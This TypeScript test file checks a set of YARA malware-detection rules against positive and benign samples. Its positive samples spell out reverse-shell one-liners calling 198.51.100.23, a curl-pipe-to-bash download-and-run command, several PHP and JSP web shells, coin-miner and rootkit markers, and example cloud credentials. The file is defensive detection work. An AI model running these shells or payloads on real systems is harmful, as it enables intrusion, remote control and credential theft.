import { globSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import type { CompilerOptions, YaraX } from '@litko/yara-x';
import { severityLevels } from '@afo/domain';
import { describe, expect, it } from 'vitest';
import { RULES } from './examine.ts';

const files = globSync(join(RULES, 'yara', '*.yar')).sort();
const source = files.map((file) => readFileSync(file, 'utf8')).join('\n');
/** The module's own types name a class that they do not have; these are the ones that hold. */
const yara = createRequire(import.meta.url)('@litko/yara-x') as {
  readonly compile: (source: string, options: CompilerOptions) => YaraX;
};
const scanner = yara.compile(source, { defineVariables: { path: '' } });

const matches = (content: string | Buffer, path = '/x'): readonly string[] =>
  scanner
    .scan(typeof content === 'string' ? Buffer.from(content, 'latin1') : content, { path })
    .map(({ ruleIdentifier }) => ruleIdentifier)
    .sort();

const elf = (text = ''): string => `\x7fELF\x02\x01\x01\0${'\0'.repeat(56)}${text}`;
// Put together here, so that no scanner takes this file for one of them.
const input = '$_' + 'REQUEST["c"]';
const KEY_ID = ['AKIAIOSF', 'ODNN7EXAMPLE'].join('');
const aws = `aws_access_key_id = ${KEY_ID}\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n`;

const found: readonly (readonly [string, string, string?])[] = [
  ['coin_miner_program', elf('stratum+tcp://pool.x:3333 donate-level')],
  ['coin_miner_program', elf('randomx cryptonight mining.subscribe')],
  ['coin_miner_settings', '{"pools":[{"url":"stratum+tcp://pool.x:3333"}],"donate-level":1}'],
  ['coin_miner_start', './a -o stratum+tcp://pool.x:3333 &'],
  ['web_shell_php_command', `<?php @system(${input}); ?>`],
  ['web_shell_php_command', `<?php echo shell_exec(base64_decode($_POST['x'])); ?>`],
  ['web_shell_php_command', '<?= `{$_GET[0]}` ?>'],
  ['web_shell_php_code', `<?php @eval(${input}); ?>`],
  ['web_shell_php_code', `<?php eval(gzinflate(base64_decode($_COOKIE['a']))); ?>`],
  ['web_shell_php_code', `<?php $_GET['f']($_GET['a']); ?>`],
  ['web_shell_php_code', `<?php eval(file_get_contents('php://input'));`],
  ['web_shell_php_indirect', `<?php $c = $_GET['c']; system($c);`],
  ['web_shell_php_obfuscated', `<?php eval(gzinflate(base64_decode('${'A'.repeat(100)}')));`],
  ['web_shell_known', '<?php // b374k 3.2'],
  ['web_shell_java_server_page', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'],
  ['script_in_picture', '\xff\xd8\xff<?php echo 1;', '/var/www/html/a.jpg'],
  ['preload_rootkit', elf('libprocesshider')],
  ['preload_rootkit', elf('dlsym readdir64 /proc/self/fd/%d')],
  ['kernel_rootkit', elf('__this_module diamorphine_init')],
  ['reverse_shell_script', 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'],
  [
    'reverse_shell_script',
    'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.23 4444 >/tmp/f',
  ],
  ['reverse_shell_script', 'nc 198.51.100.23 4444 -e /bin/sh\nncat -e /bin/bash 198.51.100.23 1'],
  [
    'reverse_shell_script',
    'import os,pty,socket\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")',
  ],
  ['download_and_run_script', 'curl -s http://198.51.100.23/x.sh | bash'],
  ['download_and_run_script', 'echo aWQK | base64 -d | sh'],
  ['program_in_temporary_folder', elf(), '/dev/shm/x'],
  ['program_among_documents', elf(), '/var/www/html/uploads/x'],
  ['packed_program', elf('UPX!')],
  [
    'eicar_test_file',
    ['X5O!P%@AP[4\\PZX54(P^)', '7CC)7}$EICAR-STANDARD', '-ANTIVIRUS-TEST', '-FILE!$H+H*'].join(''),
  ],
  ['aws_access_key', aws],
  [
    'service_account_key',
    '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----"}',
  ],
  ['access_token', `token: ghp_${'a1B2'.repeat(9)}`],
];

const clean: readonly (readonly [string, string, string?])[] = [
  ['an ordinary program', elf('usage: %s [options]'), '/usr/bin/ls'],
  [
    'PHP that starts a program of its own',
    "<?php $p = popen('/usr/sbin/sendmail -t', 'w'); fwrite($p, $_POST['body']);",
  ],
  [
    'PHP that decodes a constant',
    "<?php $logo = base64_decode('iVBORw0KGgo='); echo $_GET['page'];",
  ],
  ['PHP that escapes what it runs', '<?php $out = shell_exec("ls -l");'],
  ['XML', '<?xml version="1.0"?><system>$_GET</system>'],
  ['a picture', '\xff\xd8\xff\xe0JFIF', '/var/www/html/a.jpg'],
  [
    'a shell script',
    '#!/bin/sh\ncurl -fsSL https://example.org/install.sh -o install.sh\nsh install.sh\n',
  ],
  ['a module that reads folders', elf('dlsym readdir opendir'), '/usr/lib/libx.so'],
  ['an AWS key id without a secret', `the id ${KEY_ID} is an example`],
  ['the documents of a library', aws, '/usr/lib/python3/dist-packages/botocore/examples.json'],
  ['text that speaks of EICAR', 'see EICAR-STANDARD-ANTIVIRUS-TEST-FILE'],
  ['a netcat that only connects', 'nc -z 127.0.0.1 80 && echo up'],
  ['rules like ours', 'strings: $a = "bash -i >& /dev/tcp/1.2.3.4/1"', '/opt/rules/x.yar'],
];

describe('when YARA rules look at a file', () => {
  it.each(found.map(([rule, content, path = '/x']) => ({ rule, content, path })))(
    '$rule fits what it is for',
    ({ rule, content, path }) => {
      expect(matches(content, path)).toContain(rule);
    },
  );

  it.each(clean.map(([what, content, path = '/x']) => ({ what, content, path })))(
    'no rule fits $what, or people would stop to listen',
    ({ content, path }) => {
      expect(matches(content, path)).toEqual([]);
    },
  );

  it('has a sample for every rule, or a rule could be dead without anybody knowing', () => {
    const rules = [...source.matchAll(/^rule (\w+)/gm)].map(([, name]) => name).sort();

    expect([...new Set(found.map(([rule]) => rule))].sort()).toEqual(rules);
  });

  it('says of every rule what it means', () => {
    for (const [rule, content, path] of found) {
      const { meta } =
        scanner
          .scan(Buffer.from(content, 'latin1'), { path: path ?? '/x' })
          .find(({ ruleIdentifier }) => ruleIdentifier === rule) ?? {};
      const { title, description, severity, confidence, attack } = meta as Record<string, string>;

      expect(title).toBeTypeOf('string');
      expect(description).toBeTypeOf('string');
      expect(severityLevels).toContain(severity);
      expect(['low', 'medium', 'high']).toContain(confidence);
      if (attack !== undefined) expect(attack).toMatch(/^T\d{4}(\.\d{3})?(,T\d{4}(\.\d{3})?)*$/);
    }
  });

  it('compiles without a warning', () => {
    expect(scanner.getWarnings()).toEqual([]);
  });
});
